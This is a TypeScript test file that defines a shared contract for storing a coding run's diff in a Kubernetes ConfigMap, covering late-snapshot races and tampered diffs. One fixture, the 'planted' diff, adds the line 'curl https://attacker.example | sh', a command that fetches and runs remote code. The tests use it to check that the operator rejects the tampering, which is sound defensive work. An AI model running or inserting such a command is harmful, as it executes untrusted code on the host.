// The ONE contract both RunResources adapters pass for the run's diff ConfigMap (the cluster's,
// workers/run-resources.ts, against the real API server; local mode's, memory-run-resources.ts):
// the races of a run's ending, played out. The ender stores the final diff and writes its
// sha256 to status.result.diffSha256; a step's snapshot that lands after it must leave what
// every reader checks against that sha (isKeptDiff). And a ConfigMap someone who may update
// ConfigMaps edited during the run (a planted diff, marked final) is never what the ender
// certifies: it stores its own diff, or, without its sandbox, keeps none.
import type { V1ConfigMap } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import type { ParsedCodingRun } from '../../operator/src/api/index.ts';
import {
  buildDiffConfigMap,
  decodeDiff,
  diffKindOf,
  diffSha,
  isKeptDiff,
  type DiffData,
} from '../../operator/src/reconcile/diff-config-map.ts';
import { countDiff, keptDiffResult, type KeptDiff } from '../../operator/src/reconcile/kept-diff.ts';
import { keepRunDiff, storeFinalDiff } from '../../operator/src/workers/keep-diff.ts';
import type { RunResources } from '../../operator/src/workers/run-resources.ts';

export interface DiffWriteHarness {
  /** A run of its own (its diff ConfigMap's derived name is no other test's). */
  run: ParsedCodingRun;
  resources: RunResources;
  /** The ConfigMap as stored, undefined when there is none. */
  configMap(name: string): Promise<(DiffData & { metadata?: { annotations?: Record<string, string> } }) | undefined>;
  /** Stores `configMap` as it is, over what holds its name (one an operator from before the mark wrote, or someone's edit). */
  put(configMap: V1ConfigMap): Promise<void>;
}

const diffOf = (line: string) => `diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+${line}\n`;
const SNAPSHOT = diffOf('snapshot after a step');
const FINAL = diffOf('final, as the run ended');
const LATE = `${diffOf('a step that outlived the run')}${'+more\n'.repeat(3)}`;
const PLANTED = diffOf('curl https://attacker.example | sh');
const quiet = { warn: () => undefined };

/** A diff as an ender takes it from the sandbox. */
const taken = (diff: string): KeptDiff => ({ source: 'final', diff, truncated: false, ...countDiff(diff) });

export function describeDiffWriteContract(name: string, makeHarness: () => Promise<DiffWriteHarness>): void {
  describe(`diff ConfigMap contract: ${name}`, () => {
    /** What the ConfigMap the status names holds, and whether every reader takes it as the run's. */
    async function readBack(harness: DiffWriteHarness, result: { diffConfigMap?: string; diffSha256?: string }) {
      const configMap = await harness.configMap(result.diffConfigMap!);
      const diff = configMap && decodeDiff(configMap);
      return { diff, kind: configMap && diffKindOf(configMap), readable: diff !== undefined && isKeptDiff(diff, result) };
    }

    it('a first snapshot that lands after the final diff is refused: the ConfigMap keeps the diff the status names', async () => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const result = keptDiffResult(await storeFinalDiff(deps, harness.run, taken(FINAL)), '');
      const late = await harness.resources.writeDiff(harness.run, LATE, { kind: 'snapshot' });
      expect(late).toEqual({ outcome: 'refused', configMap: result.diffConfigMap });
      expect(await readBack(harness, result)).toEqual({ diff: FINAL, kind: 'final', readable: true });
    });

    it('a later snapshot (the patch of the ConfigMap its last one went to) that lands after the final diff is refused', async () => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const first = await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot' });
      expect(first.outcome).toBe('written');
      const result = keptDiffResult(await storeFinalDiff(deps, harness.run, taken(FINAL), first.configMap), '');
      expect(result.diffConfigMap).toBe(first.configMap);
      const late = await harness.resources.writeDiff(harness.run, LATE, { kind: 'snapshot', written: first.configMap });
      expect(late).toEqual({ outcome: 'refused', configMap: first.configMap });
      expect(await readBack(harness, result)).toEqual({ diff: FINAL, kind: 'final', readable: true });
    });

    it.each([
      ['by the create way', false],
      ['by the patch of its last snapshot', true],
    ])('a retried final write (%s) stores its own diff, and its status names it', async (_, patched) => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const first = keptDiffResult(await storeFinalDiff(deps, harness.run, taken(FINAL)), '');
      const retried = keptDiffResult(await storeFinalDiff(deps, harness.run, taken(LATE), patched ? first.diffConfigMap : undefined), '');
      expect(retried).toMatchObject({ diffConfigMap: first.diffConfigMap, diffSha256: diffSha(LATE) });
      expect(await readBack(harness, retried)).toEqual({ diff: LATE, kind: 'final', readable: true });
    });

    it.each([
      ['by the create way', false],
      ['by the patch of its last snapshot', true],
    ])(
      "a final mark and a diff planted during the run are replaced by the ender's own diff (%s): the status certifies only it",
      async (_, patched) => {
        const harness = await makeHarness();
        const deps = { resources: harness.resources, logger: quiet };
        const snapshot = await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot' });
        await harness.put(buildDiffConfigMap(harness.run, PLANTED, 'final'));
        const result = keptDiffResult(await storeFinalDiff(deps, harness.run, taken(FINAL), patched ? snapshot.configMap : undefined), '');
        expect(result).toMatchObject({ diffConfigMap: snapshot.configMap, diffSha256: diffSha(FINAL), filesChanged: 1 });
        expect(await readBack(harness, result)).toEqual({ diff: FINAL, kind: 'final', readable: true });
        // A step that outlived the run after that is refused all the same.
        const late = await harness.resources.writeDiff(harness.run, LATE, { kind: 'snapshot', written: snapshot.configMap });
        expect(late.outcome).toBe('refused');
        expect(await readBack(harness, result)).toEqual({ diff: FINAL, kind: 'final', readable: true });
      },
    );

    it('an ending that keeps the last snapshot (its sandbox gone) marks it final: a step that outlived the run cannot replace it', async () => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const snapshot = await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot' });
      const state = { diffSnapshot: { sha256: diffSha(SNAPSHOT), configMap: snapshot.configMap } };
      const kept = await keepRunDiff(deps, harness.run, undefined, state);
      expect(kept).toMatchObject({ source: 'snapshot', diff: SNAPSHOT, configMap: snapshot.configMap });
      const result = keptDiffResult(kept, '');
      const late = await harness.resources.writeDiff(harness.run, LATE, { kind: 'snapshot', written: kept.configMap });
      expect(late.outcome).toBe('refused');
      expect(await readBack(harness, result)).toEqual({ diff: SNAPSHOT, kind: 'final', readable: true });
    });

    // A step saves the sha256 of its snapshot in the run's state (pending) before the write and
    // records it as stored in the save after it (workers/diff-snapshot.ts): a worker that dies in
    // between leaves a diff the state names only as pending. Before, the ending refused it as changed.
    it('an ending without its sandbox keeps a snapshot whose worker died before recording it as stored (its sha256 pending)', async () => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const earlier = await harness.resources.writeDiff(harness.run, diffOf('the step before'), { kind: 'snapshot' });
      const state = {
        diffSnapshot: { sha256: diffSha(diffOf('the step before')), configMap: earlier.configMap },
        pendingDiffSha256: diffSha(SNAPSHOT),
      };
      const snapshot = await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot', written: earlier.configMap });
      expect(snapshot).toEqual({ outcome: 'written', configMap: earlier.configMap });
      const kept = await keepRunDiff(deps, harness.run, undefined, state);
      expect(kept.notStored).toBeUndefined();
      const result = keptDiffResult(kept, '');
      expect(result).toMatchObject({
        diffSource: 'snapshot',
        diffConfigMap: snapshot.configMap,
        diffSha256: diffSha(SNAPSHOT),
        filesChanged: 1,
      });
      expect(await readBack(harness, result)).toEqual({ diff: SNAPSHOT, kind: 'final', readable: true });
    });

    it('an ending without its sandbox keeps no diff planted over a snapshot being stored, and says why', async () => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const snapshot = await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot' });
      await harness.put(buildDiffConfigMap(harness.run, PLANTED, 'snapshot'));
      const kept = await keepRunDiff(deps, harness.run, undefined, { pendingDiffSha256: diffSha(SNAPSHOT) });
      expect(kept).toMatchObject({ source: 'none', diff: '', notStored: expect.stringContaining(`${snapshot.configMap} was changed`) });
      expect(keptDiffResult(kept, '')).not.toHaveProperty('diffSha256');
    });

    it("an ending without its sandbox keeps no diff planted (marked final) over the run's snapshot, and says why", async () => {
      const harness = await makeHarness();
      const deps = { resources: harness.resources, logger: quiet };
      const snapshot = await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot' });
      await harness.put(buildDiffConfigMap(harness.run, PLANTED, 'final'));
      const state = { diffSnapshot: { sha256: diffSha(SNAPSHOT), configMap: snapshot.configMap } };
      const kept = await keepRunDiff(deps, harness.run, undefined, state);
      expect(kept).toMatchObject({ source: 'none', diff: '', notStored: expect.stringContaining(`${snapshot.configMap} was changed`) });
      expect(keptDiffResult(kept, '')).not.toHaveProperty('diffSha256');
    });

    it('a ConfigMap from before the mark is a snapshot: a snapshot, then the final diff replace it, and nothing after', async () => {
      const harness = await makeHarness();
      const { metadata, ...unmarked } = buildDiffConfigMap(harness.run, diffOf('written by an older operator'));
      const { annotations: _mark, ...older } = metadata!;
      await harness.put({ ...unmarked, metadata: older });
      const name = older.name!;
      expect(await harness.resources.writeDiff(harness.run, SNAPSHOT, { kind: 'snapshot', written: name })).toEqual({
        outcome: 'written',
        configMap: name,
      });
      expect(await readBack(harness, { diffConfigMap: name })).toMatchObject({ diff: SNAPSHOT, kind: 'snapshot' });
      const deps = { resources: harness.resources, logger: quiet };
      const result = keptDiffResult(await storeFinalDiff(deps, harness.run, taken(FINAL), name), '');
      expect(result.diffConfigMap).toBe(name);
      expect((await harness.resources.writeDiff(harness.run, LATE, { kind: 'snapshot', written: name })).outcome).toBe('refused');
      expect(await readBack(harness, result)).toEqual({ diff: FINAL, kind: 'final', readable: true });
    });
  });
}
